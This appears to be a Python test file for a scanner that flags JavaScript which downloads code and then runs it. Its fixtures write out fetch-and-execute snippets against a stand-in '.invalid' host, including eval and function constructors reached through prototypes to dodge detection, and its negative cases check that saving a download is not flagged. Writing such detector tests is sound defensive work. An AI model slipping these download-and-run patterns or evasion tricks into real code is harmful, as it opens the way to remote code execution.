"""A download promisified by hand (``new Promise`` around ``https.get``) carries what it fetched to
whoever awaits it, and the function constructors reached through a prototype
(``Object.getPrototypeOf(async function () {}).constructor``) build code like ``Function``. Hosts are
``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

PROMISED = (
    "const http = require('http');\n"
    "const pull = (address) =>\n"
    "  new Promise((done, failed) => {\n"
    "    const req = http.request(address, (reply) => {\n"
    "      const parts = [];\n"
    "      reply.on('data', (piece) => parts.push(piece));\n"
    "      reply.on('end', () => done(Buffer.concat(parts).toString()));\n"
    "    });\n"
    "    req.on('error', failed);\n"
    "    req.end();\n"
    "  });\n"
    "async function main() {\n"
    "  const plugin = await pull('http://asset-cache.invalid/plugin.js');\n"
    "  RUNNER;\n"
    "}\n"
    "main();\n"
)


def test_evaluating_what_a_hand_made_promise_downloaded_is_an_error(tmp_path: Path) -> None:
    source = PROMISED.replace("RUNNER", "eval(plugin)")
    errors = scan_errors(tmp_path, {"scripts/plugins.js": source})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_a_generator_function_constructor_from_a_prototype_runs_the_download(tmp_path: Path) -> None:
    runner = (
        "const Make = Reflect.getPrototypeOf(function* () {}).constructor;\n"
        "  for (const _ of new Make('module', plugin)(module)) {}"
    )
    errors = scan_errors(tmp_path, {"scripts/plugins.js": PROMISED.replace("RUNNER", runner)})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_an_async_function_constructor_runs_the_download(tmp_path: Path) -> None:
    runner = "await new (Object.getPrototypeOf(async () => {}).constructor)('require', plugin)(require)"
    errors = scan_errors(tmp_path, {"scripts/plugins.js": PROMISED.replace("RUNNER", runner)})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_saving_what_the_promise_downloaded_is_not_an_error(tmp_path: Path) -> None:
    source = PROMISED.replace("RUNNER", "require('fs').writeFileSync('cache/plugin.txt', plugin)")
    assert not scan_errors(tmp_path, {"scripts/plugins.js": source})


def test_a_prototype_lookup_of_a_plain_object_builds_nothing(tmp_path: Path) -> None:
    source = PROMISED.replace(
        "RUNNER", "const Ctor = Object.getPrototypeOf({}).constructor;\n  console.log(new Ctor(plugin))"
    )
    assert not scan_errors(tmp_path, {"scripts/plugins.js": source})
